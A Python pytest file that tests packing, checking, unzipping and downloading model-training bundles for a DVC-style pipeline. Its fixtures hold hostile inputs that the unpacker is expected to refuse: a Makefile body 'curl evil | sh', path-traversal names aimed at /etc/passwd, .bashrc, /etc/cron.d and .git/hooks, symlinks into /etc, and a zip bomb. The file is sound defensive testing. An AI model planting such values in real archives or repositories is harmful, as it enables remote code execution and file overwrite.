from __future__ import annotations

import io
import json
import os
import shutil
import struct
from collections.abc import Callable
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from host import CONFIG, FIRST, Call, Hub, commit, files_below, git, listing, md5, run_pipeline, stored, written

from ml import objects
from ml.errors import SourceError, UserError
from ml.operations import bundle, storage

Clone = Callable[[str], Path]
PLOTS = {"one.json": b"1", "deep/two.json": b"22"}
BETTER = {**FIRST, "models/model.onnx": b"better", "plots": PLOTS}
METRICS = b'{"auc": 0.8}'
LISTED = f"{md5(listing(PLOTS))}.dir"


def trained() -> dict[str, bytes]:
    """Make BETTER here, pack it, undo it, and return the bundle's files."""
    run_pipeline(BETTER, METRICS)
    bundle.pack()
    found = files_below(bundle.FOLDER)
    git(Path.cwd(), "checkout", "--quiet", ".")
    return found


def laid(folder: Path, files: dict[str, bytes]) -> Path:
    for name, content in files.items():
        written(folder / name, content)
    return folder


def lock_of(outputs: dict[str, str]) -> bytes:
    outs = [{"path": path, "md5": md5} for path, md5 in outputs.items()]
    return json.dumps({"schema": "2.0", "stages": {"all": {"cmd": "true", "outs": outs}}}).encode()


@pytest.fixture
def loose(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a good bundle beside a work tree, in which the test works."""
    monkeypatch.chdir(laid(tmp_path / "tree", {"dvc.lock": b"stages: {}", "metrics.json": b"{}", "Makefile": b"all:"}))
    claimed = {"models/model.onnx": md5(b"better"), "plots": LISTED, "metrics.json": md5(METRICS)}
    files = {"files/dvc.lock": lock_of(claimed), "files/metrics.json": METRICS}
    parts = [b"better", *PLOTS.values()]
    return laid(
        tmp_path / "bundle", {**files, **{f"objects/{md5(p)}": p for p in parts}, f"objects/{LISTED}": listing(PLOTS)}
    )


def test_what_is_packed_in_one_clone_is_the_same_in_another(pushed: Path, clone: Clone, tmp_path: Path) -> None:
    run_pipeline(BETTER, METRICS)
    wanted = {name: content for name, content in files_below(pushed).items() if not name.startswith((".git/", ".dvc/"))}

    said = bundle.pack()
    folder = pushed / bundle.FOLDER
    other = clone("other")
    storage.pull([])
    assert bundle.unpack(folder) == "3 objects and dvc.lock, metrics.json"

    assert said == "3 objects packed into build/bundle (0.0 MB)"
    assert wanted == {
        name: content for name, content in files_below(other).items() if not name.startswith((".git/", ".dvc/"))
    }
    assert git(other, "status", "--short").split("\n") == ["M dvc.lock", " M metrics.json"]


def test_only_what_the_storage_lacks_is_packed(pushed: Path) -> None:

    found = trained()

    assert {name for name in found if name.startswith("objects/")} == {
        f"objects/{md5(b'better')}",
        f"objects/{md5(b'22')}",
        f"objects/{LISTED}",
    }
    assert found["files/metrics.json"] == METRICS
    assert len(found) == 5


def test_what_an_earlier_run_packed_is_not_packed_again(pushed: Path) -> None:
    run_pipeline(BETTER)
    bundle.pack()
    written(bundle.FOLDER / "files/strange", b"left")
    run_pipeline({**FIRST, "models/model.onnx": b"best"})

    bundle.pack()

    assert {*files_below(bundle.FOLDER)} == {"files/dvc.lock", "files/metrics.json", f"objects/{md5(b'best')}"}


def test_where_nothing_was_pushed_all_is_packed(laptop: Path) -> None:
    bundle.pack()

    assert len([name for name in files_below(bundle.FOLDER) if name.startswith("objects/")]) == 5


@pytest.mark.parametrize("pushed", [True, False], ids=["pushed", "not pushed"])
def test_with_another_default_remote_what_it_lacks_is_packed(pushed: bool, laptop: Path, tmp_path: Path) -> None:
    own = f"['remote \"own\"']\n    url = {tmp_path}/own\n"
    Path(".dvc/config").write_text(CONFIG.replace("= refs", "= own") + own)
    if pushed:
        shutil.copytree(objects.CACHE, tmp_path / "own/files/md5")

    found = trained()

    assert len([name for name in found if name.startswith("objects/")]) == (3 if pushed else 5)


def test_an_object_that_is_not_here_is_named_with_the_remedy(laptop: Path) -> None:
    objects.place(objects.CACHE, md5(b"model")).unlink()

    with pytest.raises(
        UserError, match=rf"^an object of dvc.lock \({md5(b'model')[:8]}\) is not on this machine: run m"
    ):
        bundle.pack()


def test_a_report_that_is_not_the_locks_is_left_for_the_pipeline(laptop: Path) -> None:
    written(Path("metrics.json"), b"edited by hand")

    bundle.pack()

    assert "files/metrics.json" not in files_below(bundle.FOLDER)
    assert bundle.checked(bundle.FOLDER).files.keys() == {"dvc.lock"}


def test_a_good_bundle_is_told_by_path_and_hash(loose: Path) -> None:
    found = bundle.checked(loose)

    assert found.files.keys() == {"dvc.lock", "metrics.json"}
    assert found.objects.keys() == {md5(b"better"), md5(b"1"), md5(b"22"), LISTED}
    assert found.named == found.objects.keys()


def add(name: str, content: bytes = b"x") -> Callable[[Path], None]:
    return lambda folder: written(folder / name, content) and None


def relock(**more: str) -> Callable[[Path], None]:
    """Return what lets the lock claim more, or otherwise."""

    def tamper(folder: Path) -> None:
        claimed = {"models/model.onnx": md5(b"better"), "plots": LISTED, "metrics.json": md5(METRICS)}
        written(folder / "files/dvc.lock", lock_of(claimed | more))

    return tamper


def both(*parts: Callable[[Path], None]) -> Callable[[Path], None]:
    return lambda folder: [part(folder) for part in parts] and None


def linked(name: str, target: str) -> Callable[[Path], None]:
    def tamper(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return tamper


def listed_as(content: bytes) -> Callable[[Path], None]:
    """Return what puts another list of the directory's files in, under its own hash."""
    name = f"{md5(content)}.dir"

    def tamper(folder: Path) -> None:
        (folder / f"objects/{LISTED}").unlink()
        both(relock(plots=name), add(f"objects/{name}", content))(folder)

    return tamper


def entries(relpath: object, part: object) -> bytes:
    return json.dumps([{"md5": part, "relpath": relpath}]).encode()


ONE = md5(b"1")
TAMPERED = {
    "a file with other bytes": (
        add("files/metrics.json", b"{}"),
        "metrics.json of the bundle is not what its dvc.lock",
    ),
    "a file that the lock does not name": (
        add("files/Makefile"),
        "Makefile of the bundle is not what its dvc.lock says",
    ),
    "an object with another hash": (
        add(f"objects/{ONE}", b"2"),
        f"the object {ONE[:8]} of the bundle has another hash",
    ),
    "an object that nobody names": (add(f"objects/{md5(b'x')}"), f"lock names no object {md5(b'x')[:8]}"),
    "a directory's list that nobody names": (
        add(f"objects/{md5(listing({}))}.dir", listing({})),
        f"lock names no object {md5(listing({}))[:8]}",
    ),
    "an object with a strange name": (add("objects/xx"), "objects/xx does not belong into a bundle"),
    "a file beside": (add("run.sh"), "run.sh does not belong into a bundle"),
    "no lock": (lambda folder: (folder / "files/dvc.lock").unlink(), "holds no dvc.lock: it is no bundle"),
    "a lock that is not YAML": (add("files/dvc.lock", b"a: ["), "dvc.lock of the bundle is not readable"),
    "a lock that is binary": (add("files/dvc.lock", b"\xff\xfe"), "dvc.lock of the bundle is not readable"),
    "a lock with a hash that is none": (relock(plots="../../../etc/passwd"), "dvc.lock of the bundle is not readable"),
    "a lock with a date that is none": (
        add("files/dvc.lock", b"a: 2013-99-99"),
        "dvc.lock of the bundle is not readable",
    ),
    "a file of git's own": (
        both(relock(**{".git/config": md5(b"x")}), add("files/.git/config")),
        ".git/config of the bundle is not what its dvc.lock says",
    ),
    "a file of git's own on a system that ignores case": (
        both(relock(**{"a/.GIT/config": md5(b"x")}), add("files/a/.GIT/config")),
        "a/.GIT/config of the bundle is not what its dvc.lock says",
    ),
    "a link in the place of a file": (
        linked("files/metrics.json", "/etc/hostname"),
        "files/metrics.json does not belong",
    ),
    "a link in the place of an object": (linked(f"objects/{ONE}", "/etc/hostname"), f"objects/{ONE} does not belong"),
    "a link to a folder": (linked("files/etc", "/etc"), "files/etc does not belong into a bundle"),
    "a pipe": (lambda folder: os.mkfifo(folder / "files/pipe"), "files/pipe does not belong into a bundle"),
    **{
        f"a directory's list that is {what}": (listed_as(content), "is no list of a directory's files")
        for what, content in {
            "no JSON": b"[{",
            "not text": b"\xff",
            "a number": b"3",
            "of numbers": b"[3]",
            "without paths": b'[{"md5": "%b"}]' % ONE.encode(),
            "deep": b"[" * 100_000,
            "with a hash that is none": entries("a", "../../x"),
            "with a hash that is a number": entries("a", 3),
            "with a path that is a number": entries(3, ONE),
            "with a path that leaves it": entries("../../.bashrc", ONE),
            "with an absolute path": entries("/etc/cron.d/x", ONE),
            "with a path into git's folder": entries("a/.git/hooks/post-checkout", ONE),
        }.items()
    },
}


@pytest.mark.parametrize(("tamper", "told"), TAMPERED.values(), ids=TAMPERED)
def test_a_bundle_that_was_tampered_with_is_refused_and_changes_nothing(
    tamper: Callable[[Path], None], told: str, loose: Path
) -> None:
    tamper(loose)
    before = files_below(Path.cwd())

    with pytest.raises(SourceError, match=rf"^[^\n]*{told}[^\n]*$"):
        bundle.unpack(loose)

    assert files_below(Path.cwd()) == before


def test_a_bundle_of_too_many_files_is_refused(loose: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle, "MOST_FILES", 5)

    with pytest.raises(SourceError, match=r"^the bundle has 6 files, more than 5$"):
        bundle.checked(loose)


def test_a_bundle_brings_no_file_that_the_work_trees_own_pipeline_does_not_make(laptop: Path, tmp_path: Path) -> None:
    written(laptop / "Makefile", b"all:")
    commit("with a Makefile")
    lock = lock_of({"Makefile": md5(b"curl evil | sh")})
    folder = laid(tmp_path / "bundle", {"files/dvc.lock": lock, "files/Makefile": b"curl evil | sh"})

    with pytest.raises(SourceError, match=r"^Makefile of the bundle is no output of dvc.yaml here$"):
        bundle.unpack(folder)

    assert git(laptop, "status", "--short") == ""


def archive(folder: Path, *names: str, content: bytes = b"x", method: int = ZIP_DEFLATED) -> Path:
    with ZipFile(folder / "trained.zip", "w", method) as packed:
        for name in names:
            packed.writestr(name, content)
    return folder / "trained.zip"


def patched(path: Path, local: int, central: int, form: str, value: int) -> Path:
    """Overwrite a field of the only entry, in its own head and in the archive's list."""
    content = bytearray(path.read_bytes())
    struct.pack_into(form, content, local, value)
    struct.pack_into(form, content, content.index(b"PK\x01\x02") + central, value)
    path.write_bytes(content)
    return path


@pytest.mark.parametrize(
    "name",
    [
        "../x",
        "a/../../x",
        "/etc/x",
        ".git/hooks/x",
        "a/.git/config",
        ".git/../x",
        ".Git/x",
        "..\\x",
        "a\\..\\..\\x",
        "C:\\x",
    ],
)
def test_a_name_that_leaves_the_folder_is_refused(name: str, tmp_path: Path) -> None:
    path = archive(tmp_path, "good", name)

    with pytest.raises(SourceError, match=r"^trained holds '[^\n]*', which leaves its folder$"):
        bundle.unzip(path, tmp_path / "a/b", 100, 10)

    assert {*files_below(tmp_path)} <= {"trained.zip", "a/b/good"}


BROKEN = {
    "no archive": lambda folder: written(folder / "trained.zip", b"PK\x03\x04 not really"),
    "half an archive": lambda folder: written(
        folder / "trained.zip", archive(folder, "a", content=os.urandom(1000)).read_bytes()[:-30]
    ),
    "sizes that are too small": lambda folder: patched(archive(folder, "a", content=b"0" * 10**6), 22, 24, "<I", 10),
    "a checksum of other bytes": lambda folder: patched(archive(folder, "a"), 14, 16, "<I", 0),
    "a password": lambda folder: patched(archive(folder, "a"), 6, 8, "<H", 1),
    "a method nobody knows": lambda folder: patched(archive(folder, "a"), 8, 10, "<H", 99),
    "bytes that do not inflate": lambda folder: patched(archive(folder, "a", content=b"x", method=0), 8, 10, "<H", 8),
}


@pytest.mark.parametrize("make_archive", BROKEN.values(), ids=BROKEN)
def test_an_archive_that_is_broken_is_one_line(make_archive: Callable[[Path], Path], tmp_path: Path) -> None:
    path = make_archive(tmp_path)

    with pytest.raises(SourceError, match=r"^trained is no archive: [^\n]+$"):
        bundle.unzip(path, tmp_path / "out", 1000, 10)


def test_an_archive_that_unpacks_to_more_than_allowed_writes_nothing(tmp_path: Path) -> None:
    bomb = archive(tmp_path, "a", "b", content=b"0" * 600_000)
    assert bomb.stat().st_size < 3000

    with pytest.raises(SourceError, match=r"^trained unpacks to more than 2 files or 1,000,000 bytes$"):
        bundle.unzip(bomb, tmp_path / "out", 1_000_000, 2)
    with pytest.raises(SourceError, match=r"^trained unpacks to more than 1 files or 2,000,000 bytes$"):
        bundle.unzip(bomb, tmp_path / "out", 2_000_000, 1)

    assert not (tmp_path / "out").exists()
    bundle.unzip(bomb, tmp_path / "out", 1_200_000, 2)
    assert (tmp_path / "out/b").stat().st_size == 600_000


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    ("names", "told"),
    [
        (("a", "a"), "holds a file twice"),
        (("a", "a/b"), "cannot be unpacked: "),
        (("a/b", "a"), "cannot be unpacked: "),
        (("x" * 300,), "cannot be unpacked: File name too long"),
    ],
)
def test_names_that_cannot_all_be_files_are_refused(names: tuple[str, ...], told: str, tmp_path: Path) -> None:
    with pytest.raises(SourceError, match=rf"^trained {told}[^\n]*$"):
        bundle.unzip(archive(tmp_path, *names), tmp_path / "out", 1000, 10)


def test_a_link_in_an_archive_becomes_a_file_that_holds_its_text(tmp_path: Path) -> None:
    content = io.BytesIO()
    with ZipFile(content, "w") as packed:
        packed.writestr("files/dvc.lock", "/etc/hostname")
        packed.infolist()[0].external_attr = 0o120777 << 16
    path = written(tmp_path / "trained.zip", content.getvalue())

    bundle.unzip(path, tmp_path / "out", 1000, 10)

    assert not (tmp_path / "out/files/dvc.lock").is_symlink()
    assert (tmp_path / "out/files/dvc.lock").read_text() == "/etc/hostname"


def runs(hub: Hub, *found: tuple[int, str]) -> None:
    """Let the checks have run on commits, newest first."""

    def answer(call: Call) -> dict[str, list[dict[str, int]]]:
        return {"workflow_runs": [{"id": number} for number, head in found if head == call.query["head_sha"]]}

    hub.on("GET actions/workflows/pull-request.yml/runs", answer)
    for number, _ in found:
        hub.on(f"GET actions/runs/{number}/artifacts", {"artifacts": []})


def test_take_brings_the_newest_result_of_this_commit_that_is_still_kept(
    pushed: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    checked_out = []
    monkeypatch.setattr(storage, "dvc", lambda *words: checked_out.append(words))
    files = trained()
    head = git(pushed, "rev-parse", "HEAD")
    runs(hub, (9, "another"), (8, head), (7, head), (6, head), (5, head))
    hub.artifact(9, "trained", {}, number=90)
    hub.artifact(8, "report", {}, number=80)
    hub.artifact(7, "trained", {}, number=70, expired=True)
    hub.artifact(6, "trained", files, number=60)
    hub.artifact(5, "trained", {}, number=50)

    said = bundle.take()

    assert said.startswith(
        "took 3 objects and dvc.lock, metrics.json of run 6; next: git commit --all, make push, git p"
    )
    assert Path("dvc.lock").read_bytes() == files["files/dvc.lock"]
    assert Path("metrics.json").read_bytes() == METRICS
    assert checked_out == [("checkout", "--force", "data/a.parquet", "models/model.onnx", "plots")]


def test_take_needs_no_pull_before(pushed: Path, origin: Path, hub: Hub, clone: Clone) -> None:
    files = trained()
    other = clone("other")
    runs(hub, (6, git(other, "rev-parse", "HEAD")))
    hub.artifact(6, "trained", files)

    bundle.take()

    assert Path("models/model.onnx").read_bytes() == b"better"
    commit("taken")
    storage.push()
    assert stored(origin) >= {md5(b"better"), md5(b"22"), LISTED}


def test_take_of_a_run_without_a_result_says_so(laptop: Path, hub: Hub) -> None:
    head = git(laptop, "rev-parse", "HEAD")
    runs(hub, (8, head), (7, head))
    hub.artifact(7, "trained", {}, number=70, expired=True)

    with pytest.raises(
        UserError, match=rf"^no run of pull-request.yml on {head[:10]} has left a result to take: git pu"
    ):
        bundle.take()
    with pytest.raises(UserError, match=r"^run 8 has trained nothing that its commit lacks: there is nothing to take$"):
        bundle.take(8)
    with pytest.raises(SourceError, match=r"^the artifact trained of run 7 has expired: run the workflow again$"):
        bundle.take(7)


@pytest.mark.parametrize("path", ["dvc.lock", "metrics.json", "new.json"])
def test_take_overwrites_no_change_that_is_not_committed(path: str, laptop: Path, hub: Hub) -> None:
    lock = lock_of({"metrics.json": md5(METRICS), "new.json": md5(b"new")})
    runs(hub, (6, git(laptop, "rev-parse", "HEAD")))
    hub.artifact(6, "trained", {"files/dvc.lock": lock, "files/metrics.json": METRICS, "files/new.json": b"new"})
    written(Path(path), b"mine")
    before = files_below(laptop)

    with pytest.raises(
        UserError, match=rf"^{path} has changes that would be lost: commit them, or git restore {path}$"
    ):
        bundle.take()

    assert {k: v for k, v in files_below(laptop).items() if not k.startswith(".git/")} == {
        k: v for k, v in before.items() if not k.startswith(".git/")
    }


def test_take_leaves_other_changes_alone(laptop: Path, hub: Hub) -> None:
    written(Path("README.md"), b"my words")
    lock = lock_of({"metrics.json": md5(METRICS)})
    runs(hub, (6, git(laptop, "rev-parse", "HEAD")))
    hub.artifact(6, "trained", {"files/dvc.lock": lock, "files/metrics.json": METRICS})

    bundle.take()

    assert Path("README.md").read_bytes() == b"my words"
    assert Path("metrics.json").read_bytes() == METRICS


def test_take_of_a_tampered_bundle_changes_nothing(laptop: Path, hub: Hub) -> None:
    runs(hub, (6, git(laptop, "rev-parse", "HEAD")))
    hub.artifact(6, "trained", {"files/dvc.lock": lock_of({}), "files/metrics.json": METRICS})

    with pytest.raises(SourceError, match=r"^metrics.json of the bundle is not what its dvc.lock says$"):
        bundle.take()

    assert git(laptop, "status", "--short") == ""


def test_an_artifact_that_is_too_large_is_not_downloaded(hub: Hub, tmp_path: Path) -> None:
    hub.artifact(6, "report", {"a": b"x"}, size_in_bytes=5_000_001)

    with pytest.raises(SourceError, match=r"^the artifact report of run 6 has 5,000,001 bytes, at most 5,000,000$"):
        bundle.download(bundle.GitHub.open(), 6, "report", tmp_path, 5_000_000)

    assert not [call for call in hub.calls if "zip" in call.path]


def test_an_artifact_that_is_larger_than_it_says_is_not_read_to_its_end(hub: Hub, tmp_path: Path) -> None:
    hub.artifact(6, "report", {"a": os.urandom(2000)}, size_in_bytes=10)

    with pytest.raises(SourceError, match=r"^actions/artifacts/7/zip is larger than 0 MB: it is not read$"):
        bundle.download(bundle.GitHub.open(), 6, "report", tmp_path, 1000)


def test_of_two_artifacts_with_one_name_the_newest_counts(hub: Hub, tmp_path: Path) -> None:
    for number, content in ((8, b"second try"), (7, b"first try")):
        hub.artifact(6, "report", {"a": content}, number=number)

    assert bundle.download(bundle.GitHub.open(), 6, "report", tmp_path, 1000)

    assert files_below(tmp_path) == {"report/a": b"second try"}
